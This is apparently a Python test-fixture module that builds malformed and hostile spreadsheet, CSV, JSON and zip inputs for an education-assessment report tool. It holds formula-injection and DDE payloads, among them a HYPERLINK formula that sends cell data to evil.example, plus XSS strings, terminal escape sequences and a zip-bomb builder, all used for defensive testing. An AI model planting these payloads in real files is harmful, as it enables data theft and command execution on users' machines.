"""Hostile and careless input files, made by code: workbooks (.xlsx, .xls, .ods), CSV and
JSON as offices save them, and as an attacker would craft them."""

from __future__ import annotations

import io
import json
import re
import struct
import zipfile
import zlib
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import openpyxl

#: the columns of a good row and a good row's values
KEYS = ("id", "type", "scope", "year", "satisfaction", "sync_lessons", "core")


def row(rid: str, **extra: Any) -> dict[str, Any]:
    """A valid community-year row for cangnan2022 (the county rubric applies)."""
    return {
        "id": rid,
        "type": "融合型",
        "scope": "县域内",
        "year": 2022,
        "satisfaction": 90,
        "sync_lessons": 20,
        "core": f"{rid}中心小学",
        **extra,
    }


def rows(n: int, prefix: str = "R") -> list[dict[str, Any]]:
    return [row(f"{prefix}{k}") for k in range(n)]


def letter(key: str) -> str:
    """The column letter of ``key`` in files made by these builders."""
    return "ABCDEFG"[KEYS.index(key)]


# ----------------------------------------------------------------------------------- CSV


def csv_text(records: Sequence[dict[str, Any] | None], *, keys: Sequence[str] = KEYS) -> list[str]:
    """Lines of a CSV file (header first); ``None`` gives an empty row."""
    lines = [",".join(keys)]
    for record in records:
        if record is None:
            lines.append("," * (len(keys) - 1))
            continue
        lines.append(",".join(_csv_cell(record.get(k)) for k in keys))
    return lines


def _csv_cell(value: Any) -> str:
    if value is None:
        return ""
    text = str(value)
    if any(ch in text for ch in ',"\n\r'):
        return '"' + text.replace('"', '""') + '"'
    return text


def write_csv(
    path: Path,
    records: Sequence[dict[str, Any] | None],
    *,
    newline: str = "\r\n",
    encoding: str = "utf-8",
    bom: bytes = b"",
    lines: list[str] | None = None,
) -> Path:
    body = newline.join(lines if lines is not None else csv_text(records)) + newline
    path.write_bytes(bom + body.encode(encoding))
    return path


# ---------------------------------------------------------------------------------- XLSX


def write_xlsx(
    path: Path,
    records: Sequence[dict[str, Any] | None],
    *,
    sheet: str = "教共体",
    formats: dict[tuple[int, str], str] | None = None,
) -> Path:
    """A workbook: keys in row 1, one row per record (``None``: an empty row)."""
    book = openpyxl.Workbook()
    ws = book.active
    assert ws is not None
    ws.title = sheet
    ws.append(list(KEYS))
    for record in records:
        ws.append([None] * len(KEYS) if record is None else [record.get(k) for k in KEYS])
    for (r, key), number_format in (formats or {}).items():
        ws[f"{letter(key)}{r}"].number_format = number_format
    book.save(path)
    return path


def patch_zip(path: Path, out: Path, member: str, change: Any) -> Path:
    """A copy of a zip file with one member's bytes changed by ``change(bytes) -> bytes``."""
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == member:
                data = change(data)
            dst.writestr(item, data)
    return out


SHEET1 = "xl/worksheets/sheet1.xml"


def add_cell(xml: bytes, ref: str, value: str = "1") -> bytes:
    """A sheet's XML with one more numeric cell in a row of its own."""
    number = re.match(r"[A-Z]+([0-9]+)", ref)
    assert number is not None
    cell = f'<row r="{number.group(1)}"><c r="{ref}"><v>{value}</v></c></row>'.encode()
    return xml.replace(b"</sheetData>", cell + b"</sheetData>")


def zeros(megabytes: int) -> tuple[bytes, int]:
    """A deflate stream of ``megabytes`` MiB of zero bytes, built without compressing them
    all: one flushed block of 1 MiB repeated (about 1 KB each)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    mib = b"\0" * (1 << 20)
    first = packer.compress(mib) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(mib) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * (megabytes - 1) + packer.flush(), megabytes << 20


def raw_zip(
    members: dict[str, bytes | tuple[bytes, int]], *, declared: dict[str, int] | None = None
) -> bytes:
    """A zip archive written byte by byte (deflated members), its declared sizes overridable;
    a member given as ``(deflate stream, size)`` is written as it is (checksum 0)."""
    out = io.BytesIO()
    central = b""
    for name, data in members.items():
        if isinstance(data, tuple):
            packed, real = data
            crc = 0
        else:
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed = packer.compress(data) + packer.flush()
            real, crc = len(data), zlib.crc32(data)
        size = (declared or {}).get(name, real)
        offset = out.tell()
        encoded = name.encode()
        header = struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(packed), size, len(encoded), 0
        )
        out.write(header + encoded + packed)
        central += struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0,
            crc,
            len(packed),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += encoded
    start = out.tell()
    out.write(central)
    out.write(
        struct.pack(
            "<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), start, 0
        )
    )
    return out.getvalue()


# ----------------------------------------------------------------------------------- ODS

_ODS_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" '
    'office:version="1.2"><office:body><office:spreadsheet>'
)


def ods_cell(value: Any, *, percent: bool = False, error: str | None = None) -> str:
    if error is not None:
        return (
            '<table:table-cell table:formula="of:=1/0" office:value-type="float" office:value="0" '
            f'calcext:value-type="error"><text:p>{error}</text:p></table:table-cell>'
        )
    if value is None:
        return "<table:table-cell/>"
    if isinstance(value, bool) or not isinstance(value, int | float):
        text = str(value).replace("&", "&amp;").replace("<", "&lt;")
        return f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>'
    kind = "percentage" if percent else "float"
    return (
        f'<table:table-cell office:value-type="{kind}" office:value="{value}">'
        f"<text:p>{value}</text:p></table:table-cell>"
    )


def write_ods(
    path: Path,
    records: Sequence[dict[str, Any] | None],
    *,
    sheet: str = "教共体",
    cells: dict[tuple[int, str], str] | None = None,
    extra_rows: str = "",
) -> Path:
    """An OpenDocument spreadsheet (keys in row 1); ``cells`` overrides cells' XML by
    (row from 1, key)."""
    body = [f'<table:table table:name="{sheet}">']
    all_rows: list[dict[str, Any] | None] = [dict(zip(KEYS, KEYS, strict=True)), *records]
    for r, record in enumerate(all_rows, start=1):
        parts = []
        for key in KEYS:
            override = (cells or {}).get((r, key))
            parts.append(
                override
                if override is not None
                else ods_cell(None if record is None else record.get(key))
            )
        body.append("<table:table-row>" + "".join(parts) + "</table:table-row>")
    body.append(extra_rows + "</table:table>")
    content = (
        _ODS_HEAD + "".join(body) + "</office:spreadsheet></office:body></office:document-content>"
    )
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(
            "mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED
        )
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="/" '
            'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>",
            zipfile.ZIP_DEFLATED,
        )
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
    return path


# ----------------------------------------------------------------------------------- XLS


def write_xls(
    path: Path,
    records: Sequence[dict[str, Any] | None],
    *,
    sheet: str = "教共体",
    errors: dict[tuple[int, str], int] | None = None,
    percent: dict[tuple[int, str], float] | None = None,
) -> Path:
    """An old-format workbook (BIFF8), written by xlwt; rows and keys as :func:`write_xlsx`;
    ``errors`` holds error cells by their BIFF code (7 is #DIV/0!, 42 #N/A …)."""
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet(sheet)
    for c, key in enumerate(KEYS):
        ws.write(0, c, key)
    for r, record in enumerate(records, start=1):
        for c, key in enumerate(KEYS):
            value = None if record is None else record.get(key)
            if value is not None:
                ws.write(r, c, value)
    for (r, key), code in (errors or {}).items():
        ws.row(r - 1).set_cell_error(KEYS.index(key), code)
    shown = xlwt.easyxf(num_format_str="0.0%")
    for (r, key), fraction in (percent or {}).items():
        ws.write(r - 1, KEYS.index(key), fraction, shown)
    book.save(str(path))
    return path


def xls_records(data: bytes) -> list[tuple[int, int, int]]:
    """(offset in the file, type, length) of every BIFF record of an xlwt-made file's
    Workbook stream, which xlwt writes in one run of sectors."""
    start = data.find(b"\x09\x08\x10\x00")  # the first BOF record
    out = []
    pos = start
    while pos + 4 <= len(data):
        typ, length = struct.unpack_from("<HH", data, pos)
        out.append((pos, typ, length))
        pos += 4 + length
        if typ == 0x000A and len([t for _p, t, _l in out if t == 0x000A]) >= 2:
            break
    return out


# ---------------------------------------------------------------------------------- JSON


def write_json(path: Path, records: Sequence[Any], *, text: str | None = None) -> Path:
    body = (
        text if text is not None else json.dumps({"communities": list(records)}, ensure_ascii=False)
    )
    path.write_text(body, encoding="utf-8")
    return path


# ------------------------------------------------------------- hostile values for outputs

#: strings an attacker (or a careless paste) puts in any field that reaches a report
HOSTILE: dict[str, str] = {
    "formula =": "=1+1",
    "formula +": "+1+1",
    "formula -": "-1+1",
    "formula @": "@SUM(A1:A9)",
    "tab then formula": "\t=1+1",
    "CR then formula": "\r=1+1",
    "LF then formula": "\n=1+1",
    "tab formula": "\t=1+1\t",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "DDE": "=cmd|' /C calc'!A0",
    "DDE with +": "+cmd|' /C notepad'!A0",
    "NUL": "空\x00字符",
    "ESC colour": "\x1b[31m红色\x1b[0m",
    "ESC clear screen": "\x1b[2J\x1b[H已清屏",
    "OSC title": "\x1b]0;pwned\x07标题",
    "C1 CSI": "\x9b31m八位",
    "BEL and BS": "响铃\x07退格\x08",
    "DEL and C1": "删除\x7f\x85\x9f",
    "bidi override": "校名\u202e逆序\u202c",
    "bidi isolate": "\u2066隔离\u2069\u200f",
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "entity": "&lt;b&gt;&amp;",
    "quotes": "单'双\"反`",
    "CDATA": "]]><![CDATA[x",
    "very long": "长" * 33_000,  # more than a cell of Excel holds
    "lone surrogate": "坏\ud800字",
}

#: what an XML file (a workbook) can hold: no C0 control but tab, LF and CR, no surrogate
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def in_xml(text: str) -> bool:
    """Whether a workbook's XML can hold ``text``."""
    return not _NOT_IN_XML.search(text)


def hostile_rows(strings: dict[str, str]) -> tuple[list[dict[str, Any]], int]:
    """Three rows per string: a valid one carrying it in every text field (id, schools,
    city, county, note), one with it as the community type and one with it as a count
    (both rejected); and the number of hostile values placed."""
    out: list[dict[str, Any]] = []
    for n, text in enumerate(strings.values()):
        out.append(
            row(
                f"G{n}{text}",
                core=text,
                members=text,
                city=text,
                county=text,
                note=text,
            )
        )
        out.append(row(f"T{n}", type=text))
        out.append(row(f"C{n}", sync_lessons=text))
    return out, 8 * len(strings)


#: the columns of a hostile CSV or workbook: the usual ones and the text columns
HOSTILE_KEYS = (*KEYS, "members", "city", "county", "note")


def hostile_pack(folder: Path) -> Path:
    """A copy of the demo pack (id ``hostile``) whose title, labels, sections and a quote
    hold formulas, markup and control characters; its pack file."""
    import shutil

    demo = Path(__file__).parent / "demo"
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("pack.yaml", "document.txt"):
        shutil.copy(demo / name, folder / name)
    pack = (folder / "pack.yaml").read_text(encoding="utf-8")
    quote = "=cmd|' /C calc'!A0 同步课堂不少于 2 门学科"

    def q(text: str) -> str:  # a YAML double-quoted string (JSON's escapes are YAML's)
        return json.dumps(text)

    for old, new in (
        ("id: demo\n", "id: hostile\n"),
        (
            "title: 示例县城乡教育共同体考核办法",
            f"title: {q(HOSTILE['hyperlink'] + chr(27) + '[2J')}",
        ),
        (
            "label: {zh: 同步课堂, en: synchronous lessons}",
            f"label: {{zh: {q('=1+1' + HOSTILE['bidi override'])}, en: {q(HOSTILE['script'])}}}",
        ),
        (
            "source: {section: 一 1, quote: 1.同步课堂（40 分）}",
            f"source: {{section: {q('@SUM(A1)' + chr(0x9B))}, quote: 1.同步课堂（40 分）}}",
        ),
        (
            "source: {section: 一 1, quote: 每年开展同步课堂不少于 2 门学科}",
            f"source: {{section: 一 1, quote: {q(quote)}}}",
        ),
        (
            "label: {zh: 示例考核细则, en: demo rubric}",
            f"label: {{zh: {q(HOSTILE['ESC colour'])}, en: {q(HOSTILE['attribute'])}}}",
        ),
    ):
        assert old in pack, old
        pack = pack.replace(old, new, 1)
    (folder / "pack.yaml").write_text(pack, encoding="utf-8")
    with (folder / "document.txt").open("a", encoding="utf-8") as text:
        text.write(f"\n{quote}\n")
    return folder / "pack.yaml"
